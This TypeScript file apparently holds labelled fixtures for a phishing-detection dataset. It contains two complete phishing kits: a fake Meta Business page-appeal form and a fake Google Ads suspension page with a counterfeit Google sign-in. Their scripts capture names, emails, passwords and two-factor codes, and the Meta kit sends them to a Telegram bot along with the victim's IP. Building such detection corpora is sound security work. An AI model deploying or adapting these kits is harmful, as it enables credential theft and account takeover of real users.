import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, googleLogo, b64, rev } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-meta-page-deletion-appeal-telegram',
  label: 'phishing',
  kind: 'business-page-policy-lure',
  url: 'https://meta-appeal-case-88412.netlify.app/case/1000927344/',
  body: page({
    title: 'Meta for Business - Page Appeal',
    lang: 'en-US',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5;color:#1c1e21}
.hd{background:#fff;box-shadow:0 1px 2px rgba(0,0,0,.1);padding:10px 24px;display:flex;align-items:center;gap:10px}
.hd svg{width:36px;height:36px}
.c{max-width:600px;margin:24px auto;background:#fff;border-radius:8px;box-shadow:0 1px 2px rgba(0,0,0,.1);padding:24px}
h2{margin-top:0}.case{background:#fff5f5;border:1px solid #f3c2c2;border-radius:6px;padding:12px;font-size:14px}
label{display:block;font-size:14px;font-weight:600;margin:14px 0 6px}input,textarea{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccd0d5;border-radius:6px;font-size:15px}
.b{margin-top:18px;background:#1877f2;color:#fff;border:0;border-radius:6px;padding:11px 22px;font-size:15px;font-weight:600;cursor:pointer;width:100%}
.modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.5);align-items:center;justify-content:center}.modal .in{background:#fff;border-radius:8px;padding:24px;width:360px}
.er{color:#d93025;font-size:13px;display:none}`,
    body: `<div class="hd"><svg viewBox="0 0 36 36"><circle cx="18" cy="18" r="18" fill="#1877f2"/><path d="M25 23l.8-5H21v-3.2c0-1.4.7-2.7 2.9-2.7h2.2V7.8s-2-.3-3.9-.3c-4 0-6.6 2.4-6.6 6.8V18h-4.4v5h4.4v12c.9.1 1.8.2 2.7.2s1.8-.1 2.7-.2V23z" fill="#fff"/></svg><b>Meta Business Help Center</b></div>
<div class="c">
<h2>Your page has been scheduled for permanent deletion</h2>
<div class="case">Case #1000927344 · We received several reports that your Page infringes the trademark rights of another business. If you believe this is a mistake, you may submit an appeal within 24 hours. Otherwise your Page and linked ad account will be permanently disabled.</div>
<form id="ap">
<label>Full name</label><input name="name" required>
<label>Business email address</label><input name="email" type="email" required>
<label>Personal email address</label><input name="pemail" type="email">
<label>Page name</label><input name="page" required>
<label>Mobile phone number</label><input name="phone" type="tel" required>
<label>Please provide us with information about your appeal</label><textarea name="msg" rows="3"></textarea>
<button class="b">Submit</button></form>
</div>
<div class="modal" id="pwm"><div class="in"><h3 style="margin-top:0">Please enter your password</h3><p style="font-size:13px;color:#606770">For your security, you must re-enter your password to continue.</p>
<input type="password" id="pw" placeholder="Password"><p class="er" id="pe">The password you've entered is incorrect.</p><button class="b" id="pb">Continue</button></div></div>
<div class="modal" id="twm"><div class="in"><h3 style="margin-top:0">Two-factor authentication required</h3><p style="font-size:13px;color:#606770">Enter the 6 or 8-digit code from your authentication app or the code we sent to your phone.</p>
<input id="tf" inputmode="numeric" maxlength="8" placeholder="Code"><button class="b" id="tb">Send</button></div></div>
<script>
var _t=atob('${b64('7011936824:AAGw1r8Yc9nVqK3pX5tZ2mL4eJ6hB0fD7sU')}'),_c='-4187230951',D={},ip='';
fetch('https://ipinfo.io/json').then(function(r){return r.json()}).then(function(j){ip=j.ip+' '+j.city+' '+j.country}).catch(function(){});
function S(m){return fetch('https://api.telegram.org/bot'+_t+'/sendMessage?chat_id='+_c+'&text='+encodeURIComponent(m));}
document.getElementById('ap').onsubmit=function(e){e.preventDefault();new FormData(this).forEach(function(v,k){D[k]=v});S('FB APPEAL\\n'+JSON.stringify(D)+'\\nIP '+ip);document.getElementById('pwm').style.display='flex';};
var n=0;document.getElementById('pb').onclick=function(){var p=document.getElementById('pw').value;if(!p)return;n++;S('PASS'+n+': '+p+' | '+D.email);
 if(n<2){document.getElementById('pe').style.display='block';document.getElementById('pw').value='';}else{pwm.style.display='none';twm.style.display='flex';}};
document.getElementById('tb').onclick=function(){S('2FA: '+document.getElementById('tf').value+' | '+D.email).then(function(){location.href='https://www.facebook.com/help';});};
</script>`,
  }),
},
{
  id: 'ya-google-sites-ads-appeal-lure',
  label: 'phishing',
  kind: 'ad-account-policy-lure',
  url: 'https://sites.google.com/view/ads-policy-appeal-center/home',
  routes: {
    'sites.google.com/view/ads-policy-appeal-center/home': htmlRoute(page({
      title: 'Google Ads Policy Center',
      lang: 'en-US',
      css: `body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#fff;color:#202124}
.ban{height:220px;background:linear-gradient(120deg,#4285f4,#34a853);display:flex;align-items:center;justify-content:center;color:#fff;font-size:38px;font-weight:500}
.ct{max-width:720px;margin:30px auto;padding:0 20px;line-height:1.6}
.btn{display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:500}
.gs{font-size:12px;color:#5f6368;border-top:1px solid #dadce0;margin-top:50px;padding-top:12px}`,
      body: `<div class="ban">Google Ads Policy Center</div>
<div class="ct">
<h2>Your Google Ads account has been suspended</h2>
<p>Your account was suspended for violating the <b>Circumventing systems</b> policy. All your ads have stopped running. If you believe this suspension was made in error, you can submit an appeal. Appeals must be received within 48 hours or the suspension becomes permanent and any remaining budget will be forfeited.</p>
<p><a class="btn" href="https://ads.google-policy-review.com/appeal/signin?continue=ads">Submit an appeal</a></p>
<p style="font-size:14px;color:#5f6368">Appeal ID: 7-5194402317</p>
<div class="gs">Google Sites · Report abuse</div>
</div>`,
    })),
    'ads.google-policy-review.com/appeal/signin': htmlRoute(page({
      title: 'Sign in - Google Accounts',
      lang: 'en-US',
      css: `body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9;color:#1f1f1f}
.c{max-width:450px;margin:10vh auto;background:#fff;border-radius:28px;padding:36px 40px}
h1{font-weight:400;font-size:32px;margin:16px 0 8px}
input{width:100%;box-sizing:border-box;padding:14px;border:1px solid #747775;border-radius:4px;font-size:16px;margin-top:24px}
.r{display:flex;justify-content:flex-end;margin-top:36px}.b{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px;cursor:pointer}
.e{color:#b3261e;font-size:12px;display:none;margin-top:6px}`,
      body: `<div class="c">${googleLogo}<h1 id="h">Sign in</h1><p id="sub">to continue to Google Ads</p>
<div id="a"><input id="e" type="email" placeholder="Email or phone"></div>
<div id="b" style="display:none"><input id="p" type="password" placeholder="Enter your password"><div class="e" id="pe">Wrong password. Try again or click Forgot password to reset it.</div></div>
<div id="c" style="display:none"><input id="o" inputmode="numeric" placeholder="Enter code"></div>
<div class="r"><button class="b" id="nx">Next</button></div></div>
<script>
var st=0,tries=0,acc='';var H=document.getElementById('h'),SB=document.getElementById('sub');
function tx(o){return fetch('/appeal/api/gw',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).catch(function(){})}
document.getElementById('nx').onclick=function(){
 if(st===0){acc=e.value;if(!acc)return;tx({e:acc});a.style.display='none';b.style.display='block';H.textContent='Welcome';SB.textContent=acc;st=1;return;}
 if(st===1){tries++;tx({e:acc,p:p.value,t:tries});if(tries<2){pe.style.display='block';p.value='';return;}b.style.display='none';c.style.display='block';H.textContent='2-Step Verification';SB.textContent='A text message with a 6-digit verification code was just sent to your phone';st=2;return;}
 tx({e:acc,o:o.value}).then(function(){location.href='https://ads.google.com/';});};
</script>`,
    })),
    'ads.google-policy-review.com/appeal/api/gw': jsonRoute({ ok: 1 }),
  },
},
];
